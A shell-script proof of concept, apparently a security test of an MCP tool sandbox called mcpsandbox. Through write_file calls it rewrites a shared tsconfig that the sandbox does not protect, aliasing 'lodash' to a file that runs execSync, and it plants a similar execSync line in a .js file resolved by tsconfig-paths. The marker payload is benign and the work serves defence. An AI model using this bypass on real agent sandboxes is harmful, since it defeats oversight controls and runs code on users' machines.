#!/bin/sh
# F4: a protected TypeScript program's tsconfig.json "extends" a shared config by package name (Turborepo's
# "@repo/typescript-config/base.json": a workspace package linked in node_modules). The follower reads only
# relative "extends" (tsconfig(): `if !strings.HasPrefix(x, ".") { break }`): the shared config, which tsx/ts-node
# (get-tsconfig, tsconfig-paths) merge with its "paths", is neither read nor protected; a call rewrites it to alias
# a package the program imports to the call's own file. Control: the same config reached by a relative extends.
set -e
D=/tmp/atk39b/f4; rm -rf $D; mkdir -p $D/ws; cd $D/ws
PY3=$(readlink -f /usr/bin/python3)
cat > $D/pol.toml <<P
version = 1
scheme  = "allowlist"
name    = "sandbox"
[audit]
path = "$D/audit.jsonl"
[allowlist]
workspace = "$D/ws"
network   = false
[[allowlist.commands]]
name   = "python3"
path   = "$PY3"
sha256 = "$(sha256sum $PY3 | cut -d' ' -f1)"
P
mkdir -p apps/web apps/ctl packages/typescript-config node_modules/@repo node_modules/lodash
ln -s ../../packages/typescript-config node_modules/@repo/typescript-config
echo '{"name":"@repo/typescript-config","version":"0.0.0"}' > packages/typescript-config/package.json
echo '{"compilerOptions":{"strict":true}}' > packages/typescript-config/base.json
echo '{"name":"lodash","main":"index.js"}' > node_modules/lodash/package.json; echo 'module.exports={}' > node_modules/lodash/index.js
echo '{"extends":"@repo/typescript-config/base.json"}' > apps/web/tsconfig.json
echo 'import _ from "lodash"; console.log(_);' > apps/web/server.ts
# control: a relative extends of a config of its own
echo '{"compilerOptions":{"strict":true}}' > apps/ctl/base.json
echo '{"extends":"./base.json"}' > apps/ctl/tsconfig.json
echo 'import _ from "lodash"; console.log(_);' > apps/ctl/server.ts
# second case: a compiled .js program run with tsconfig-paths (node -r tsconfig-paths/register, or tsx/ts-node on .js):
# the follower consults tsconfig only for .ts/.tsx/.mts/.cts files, so the alias "@lib/x" is judged as a package
mkdir -p apps/js/lib node_modules/tsconfig-paths
echo '{"name":"tsconfig-paths","main":"register.js"}' > node_modules/tsconfig-paths/package.json; echo '' > node_modules/tsconfig-paths/register.js
echo '{"compilerOptions":{"baseUrl":".","paths":{"@lib/*":["./lib/*"]}}}' > apps/js/tsconfig.json
echo 'module.exports = 1;' > apps/js/lib/x.js
echo 'require("@lib/x");' > apps/js/server.js
cat > .mcp.json <<'J'
{ "mcpServers": { "web": { "command": "npx", "args": ["tsx", "apps/web/server.ts"] },
                  "ctl": { "command": "npx", "args": ["tsx", "apps/ctl/server.ts"] },
                  "js":  { "command": "node", "args": ["-r", "tsconfig-paths/register", "apps/js/server.js"] } } }
J
chown -R 65534:65534 $D/ws
cp /work/notes/atk39b/stdio.py $D/stdio.py
python3 - <<PY
import sys; sys.path.insert(0,'$D'); from stdio import *
s=Stdio(['/tmp/atk39b/mcpsandbox','serve','--policy','$D/pol.toml'], err='$D/serve.err')
evilcfg='{"compilerOptions":{"baseUrl":".","paths":{"lodash":["./evil.ts"]}}}\n'
for p,c in [("packages/typescript-config/base.json",evilcfg),
            ("packages/typescript-config/evil.ts",'import { execSync } from "child_process"; execSync("id > /tmp/PWNED-atk39b-f4"); export default {};\n'),
            ("apps/ctl/base.json",evilcfg),
            ("apps/js/lib/x.js",'require("child_process").execSync("id > /tmp/PWNED-atk39b-f4js"); module.exports = 1;\n'),
            ("apps/js/tsconfig.json",'{"compilerOptions":{"baseUrl":".","paths":{"@lib/*":["./lib/*"],"lodash":["./lib/x.js"]}}}\n')]:
    r=text(s.call('write_file',{'path':p,'content':c})).strip().replace("\n"," ")
    print("write %s: %s" % (p, "APPLIED" if "applied" in r and "refused" not in r.lower() else "refused: "+r[:200]))
s.close()
PY
echo "== host's packages/typescript-config/base.json now: $(cat packages/typescript-config/base.json)"
